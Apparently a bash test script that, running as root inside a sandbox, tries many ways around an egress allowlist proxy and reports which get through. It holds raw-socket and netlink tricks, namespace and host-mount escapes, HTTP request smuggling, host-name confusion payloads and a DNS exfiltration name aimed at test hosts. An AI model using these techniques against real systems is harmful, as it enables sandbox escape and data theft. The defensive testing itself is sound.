#!/bin/bash
# What root in a habitat tries against its allowlist. Prints a line for each try: its name, a tab, and `through` or how it
# failed. The test also looks at what reached the servers.
# $1: the port of the gate; $2: the address of a server that nobody allowed; $3: an address of the host.

gate=$1 denied=$2 host=$3

try() { # $1: its name; $2: seconds; $3...: succeeds if it gets through
    local name=$1 output
    if output=$(timeout "$2" bash -c "${*:3}" 2>&1); then
        printf '%s\tthrough: %s\n' "$name" "$(head -c 60 <<<"$output" | tr '\n\t' '  ')"
    else
        printf '%s\tfailed\n' "$name"
    fi
}
# Succeeds if the proxy connects. $1: what CONNECT names.
connect() {
    local line
    exec 3<>"/dev/tcp/127.0.0.1/$gate" || return
    printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' "$1" "$1" >&3
    IFS= read -r -t 3 line <&3
    exec 3>&-
    [[ $line == *' 200 '* ]]
}
# Succeeds if a server answers through the proxy. $1: the request.
get() { [[ $(request "$1") == *'hello from'* ]]; }
request() {
    exec 3<>"/dev/tcp/127.0.0.1/$gate" || return
    printf "$1" >&3
    timeout 2 head -c 2000 <&3
    exec 3>&-
}
export -f connect get request
export gate denied host

for to in "$denied:80" "$denied:443" "$host:18080" "$host:22" "$denied:53" "$denied:8443" 169.254.13.37:80 172.17.0.2:80; do
    try "a raw TCP connection to $to" 3 "exec 3<>/dev/tcp/${to%:*}/${to#*:}"
done
try 'a raw connection over IPv6' 3 'exec 3<>/dev/tcp/2001:db8::1/53'
try 'a UDP datagram' 3 "echo x >/dev/udp/$denied/443"
try 'QUIC' 3 "head -c 1200 /dev/zero >/dev/udp/$denied/443"
try 'DNS by another resolver' 3 "echo xxxxxxxxxxxxxxxxxx >/dev/udp/$denied/53"
try 'a name by the resolver of the habitat' 5 'getent ahosts exfil-1.denied.test'
try 'an allowed name by the resolver of the habitat' 5 'getent ahosts allowed.test'

perl_try() { try "$1" 5 "perl -e '$2'"; }
perl_try 'a raw socket sends an IP packet' 'use Socket; socket(S,AF_INET,SOCK_RAW,255) or die; send(S,"x"x40,0,pack_sockaddr_in(0,inet_aton($ENV{denied}))) or die'
perl_try 'an ICMP echo' 'use Socket; socket(S,AF_INET,SOCK_RAW,1) or die; send(S,"\x08\0\xf7\xff\0\0\0\0",0,pack_sockaddr_in(0,inet_aton($ENV{denied}))) or die'
perl_try 'an ARP frame by a packet socket' 'socket(S,17,3,0x0608) or die; opendir(D,"/sys/class/net") or die; @n=grep{!/^\.|^lo$/}readdir D; @n or die'
perl_try 'an address for an interface' 'use Socket; socket(S,AF_INET,SOCK_DGRAM,0) or die; ioctl(S,0x8916,pack("a16 S n a4 x8","lo:1",2,0,inet_aton("10.9.9.9"))) or die'
perl_try 'a default route' 'use Socket; socket(S,AF_INET,SOCK_DGRAM,0) or die; $s=pack_sockaddr_in(0,inet_aton("0.0.0.0")); ioctl(S,0x890B,pack("x8 a16 a16 a16 S x70",$s,pack_sockaddr_in(0,inet_aton("127.0.0.1")),$s,3)) or die'
perl_try 'a new interface by netlink' 'socket(S,16,3,0) or die; $m=pack("L S S L L C x S i I I",32,16,0x605,1,0,0,0,0,0,0); send(S,$m,0) or die; recv(S,$r,4096,0); ($e)=unpack("x16 i",$r); $e==0 or die'
perl_try 'a rule of the packet filter by netlink' 'socket(S,16,3,12) or die; $m=pack("L S S L L",20,0x0a10,0x5,1,0); send(S,$m,0) or die; recv(S,$r,4096,0); ($e)=unpack("x16 i",$r); $e==0 or die'
try 'another network namespace' 3 'unshare -n true'
try 'the network namespace of the host' 3 'nsenter --net=/proc/1/ns/net test -e /sys/class/net/docker0'
try 'a mount of the host' 3 'mount -t proc proc /mnt && ls /mnt/1/root'
try 'a setting of the network' 3 'echo 1 >/proc/sys/net/ipv4/ip_forward'
try 'the socket of the gate in a mount' 3 'grep -q " /gate " /proc/self/mounts || ls /gate'
try 'the socket of the gate by a process' 3 'ls -d /proc/[0-9]*/root/gate/out'
try 'the socket of the gate by its path in /proc/net/unix' 3 'grep /gate/ /proc/net/unix | grep -q . && perl -e "use Socket; socket(S,AF_UNIX,SOCK_STREAM,0); connect(S,pack_sockaddr_un(\"/gate/out/out.sock\")) or die"'
try 'a process of the gate' 3 'grep -l "[h]aproxy" /proc/[0-9]*/cmdline'
try 'the port of the gate for itself' 3 'perl -e "use Socket; socket(S,AF_INET,SOCK_STREAM,0); setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1); setsockopt(S,SOL_SOCKET,15,1); bind(S,pack_sockaddr_in(\$ENV{gate},INADDR_LOOPBACK)) && listen(S,1) or die"'
try 'the socket of the engine' 3 'ls /var/run/docker.sock /run/podman/podman.sock'

for name in denied.test:443 denied.test:80 allowed.test:22 allowed.test:8443 sub.allowed.test:443 allowed.test.denied.test:443 \
    ALLOWED.TEST.:22 "$denied:443" "$denied:80" "[::ffff:$denied]:443" 3405803987:443 0xcb0071d3:443 0313.0.0161.0323:443 \
    203.0.29139:443 127.0.0.1:3128 127.0.0.1:3129 localhost:3129 "[::1]:3129" "$host:18080" 169.254.13.37:80 \
    loopback.test:80 metadata.test:80 private.test:80 host.test:18080 gate.habitat:443 gate.habitat:3128 'denied.test%00.allowed.test:443' \
    'allowed.test@denied.test:443' 'allowed.test/denied.test:443' 'allowed.test:443:80' ; do
    try "CONNECT $name" 4 "connect '$name'"
done
try 'GET of a host that is not allowed' 4 'get "GET http://denied.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"'
try 'the host in the Host header alone' 4 'get "GET / HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n"'
try 'GET of a name that leads to this machine' 4 'get "GET http://host.test:18080/ HTTP/1.1\r\nHost: host.test\r\nConnection: close\r\n\r\n"'
try 'GET of an address' 4 "get 'GET http://$denied/ HTTP/1.1\r\nHost: $denied\r\nConnection: close\r\n\r\n'"
try 'DNS over HTTPS by an address' 4 'connect $denied:443'
try 'another protocol of a URL' 4 'get "GET ftp://denied.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"'
try 'smuggling by two lengths' 4 'get "POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n" && false'
try 'the rest of a connection for another host' 4 'request "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" | grep -q "hello from $denied"'
try 'a header that is too long' 4 'get "GET http://denied.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: $(head -c 100000 /dev/zero | tr "\0" x)\r\n\r\n"'
try 'a forged PROXY header' 4 'get "PROXY TCP4 127.0.0.1 127.0.0.1 1 3128\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n"'
try "the proxy's own pages" 4 'request "GET http://gate.habitat/squid-internal-mgr/menu HTTP/1.1\r\nHost: gate.habitat\r\nConnection: close\r\n\r\n" | grep -qi "cache manager"'
try 'control of the cache' 4 'request "GET cache_object://localhost/info HTTP/1.0\r\n\r\n" | grep -q "Squid Object Cache"'
try 'a name carries data to a DNS' 4 'connect "c2VjcmV0.exfil.denied.test:443"'
